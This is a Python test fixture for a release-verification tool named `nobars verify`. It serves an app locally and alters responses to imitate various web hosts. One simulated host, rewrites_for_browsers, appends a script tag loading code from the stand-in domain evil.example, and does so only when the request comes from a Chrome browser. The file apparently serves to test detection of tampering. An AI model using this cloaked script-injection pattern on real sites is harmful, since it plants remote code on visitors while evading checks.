"""Hosts that `nobars verify` may meet: each serves the release, and most change something."""

from __future__ import annotations

import ssl
import subprocess
import threading
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

from werkzeug.serving import make_server
from werkzeug.test import run_wsgi_app

from offline.hostile import _QuietHandler
from server.app import create_app
from server.core.config import Config
from server.release.model import Release

if TYPE_CHECKING:
    from _typeshed.wsgi import StartResponse, WSGIEnvironment

CHANGED = b"<script src=https://evil.example/x.js></script></html>"


@dataclass
class Exchange:
    """A request, and its answer before it is sent."""

    environ: WSGIEnvironment
    status: int
    headers: dict[str, str]
    body: bytes

    @property
    def path(self) -> str:
        """The requested path."""
        return str(self.environ["PATH_INFO"])

    @property
    def is_document(self) -> bool:
        """Whether browsers open it as a document."""
        return "html" in self.headers.get("Content-Type", "html")

    @property
    def is_page(self) -> bool:
        """Whether it is a page of the app."""
        is_read = self.environ["REQUEST_METHOD"] == "GET" and self.status == 200
        return self.is_document and is_read

    @property
    def is_asked_by_browser(self) -> bool:
        """Whether the request comes from a browser."""
        return "Chrome" in self.environ.get("HTTP_USER_AGENT", "")

    def answer(self, status: int, body: bytes = b"", **headers: str) -> None:
        """Replace the answer."""
        self.status, self.body = status, body
        self.headers = {"Content-Type": "text/html", "Content-Length": str(len(body)), **headers}


Change = Callable[[Exchange], None]


@contextmanager
def host(release: Release, change: Change, config: Config, tls: Path | None) -> Iterator[str]:
    """Serve a release with each answer changed, and yield the origin."""
    app = create_app(config, release)

    def respond(environ: WSGIEnvironment, start: StartResponse) -> Iterable[bytes]:
        chunks, status, headers = run_wsgi_app(app, environ, buffered=True)
        exchange = Exchange(environ, int(status.split()[0]), dict(headers), b"".join(chunks))
        change(exchange)
        start(f"{exchange.status} Said", [*exchange.headers.items()])
        return [exchange.body]

    context = None
    if tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(tls)
    server = make_server(
        "127.0.0.1", 0, respond, threaded=True, request_handler=_QuietHandler, ssl_context=context
    )
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        yield f"http{'s' if tls else ''}://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def certificate(folder: Path) -> Path:
    """Make a certificate of 127.0.0.1, with its key in the same file."""
    path = folder / "host.pem"
    command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256"]
    command += ["-nodes", "-days", "2", "-subj", "/CN=127.0.0.1", "-addext"]
    command += ["subjectAltName=IP:127.0.0.1", "-keyout", str(path), "-out", str(folder / "cert")]
    subprocess.run(command, check=True, capture_output=True)
    path.write_text(path.read_text() + (folder / "cert").read_text())
    return path


def adds(**headers: str) -> Change:
    """Add these headers to everything; names have `_` for `-`, and an empty value removes one."""
    return at(None, **headers)


def at(where: str | None, **headers: str) -> Change:
    """Add these headers at one path."""

    def change(exchange: Exchange) -> None:
        if where in {None, exchange.path}:
            for name, value in headers.items():
                exchange.headers.pop(name.replace("_", "-"), None)
                if value:
                    exchange.headers[name.replace("_", "-")] = value

    return change


def documents_have(**headers: str) -> Change:
    """Add these headers to documents."""

    def change(exchange: Exchange) -> None:
        if exchange.is_document:
            adds(**headers)(exchange)

    return change


def rewrites_for_browsers(exchange: Exchange) -> None:
    """Add a script to pages, but only for browsers."""
    if exchange.is_asked_by_browser and exchange.is_page:
        for name in ("Content-Encoding", "ETag"):
            exchange.headers.pop(name, None)
        exchange.body += CHANGED
        exchange.headers["Content-Length"] = str(len(exchange.body))


def refuses_browsers(exchange: Exchange) -> None:
    """Refuse browsers at pages, as if they were bots."""
    if exchange.is_asked_by_browser and exchange.is_page:
        exchange.answer(403, b"<p>Checking your browser")


def chooses_by_a_page(exchange: Exchange) -> None:
    """Serve a page at the root whose script chooses the language, like hosts of files."""
    if exchange.path == "/":
        exchange.status, exchange.body = 200, b"<!doctype html><title>Languages</title>"
        del exchange.headers["Location"]
        length = str(len(exchange.body))
        exchange.headers |= {"Content-Type": "text/html; charset=utf-8", "Content-Length": length}


def names_types_otherwise(exchange: Exchange) -> None:
    """Use other valid types for scripts and site maps, and redirect with a 307."""
    kind = exchange.headers.get("Content-Type", "")
    if "javascript" in kind or "xml" in kind:
        exchange.headers["Content-Type"] = kind.replace("text/", "application/")
    exchange.status = 307 if exchange.status == 302 else exchange.status


def not_found_is_bare(exchange: Exchange) -> None:
    """Answer with a 404 of the host's own."""
    if exchange.status == 404:
        exchange.answer(404, b"<p>Not found")


def catches_all(exchange: Exchange) -> None:
    """Answer every path below /en/ like a single-page app."""
    if exchange.status == 404 and exchange.path.startswith("/en/"):
        exchange.status = 200


def refuses_posts(exchange: Exchange) -> None:
    """Refuse POST, like hosts of files."""
    if exchange.environ["REQUEST_METHOD"] == "POST":
        exchange.answer(405, b"<p>Not allowed")


def leads_to_https(exchange: Exchange) -> None:
    """Redirect everything to https."""
    exchange.answer(301, b"", Location=f"https://nobars.example{exchange.path}")


def sends_no_headers(exchange: Exchange) -> None:
    """Send only the headers that GitHub Pages sends."""
    kept = {name: exchange.headers[name] for name in exchange.headers if name in PLAIN}
    exchange.headers = {**kept, "Cache-Control": "max-age=600", "Server": "GitHub.com"}
    exchange.headers |= {"Access-Control-Allow-Origin": "*", "X-GitHub-Request-Id": "1"}
    exchange.headers |= {"Permissions-Policy": "interest-cohort=()", "X-Proxy-Cache": "MISS"}
    if exchange.path == "/healthz":
        exchange.answer(404)
    if etag := exchange.headers.get("ETag"):
        exchange.headers["ETag"] = f"W/{etag}"  # the host compresses while sending
    refuses_posts(exchange)


PLAIN = {"Content-Type", "Content-Length", "Content-Encoding", "ETag", "Vary", "Location"}
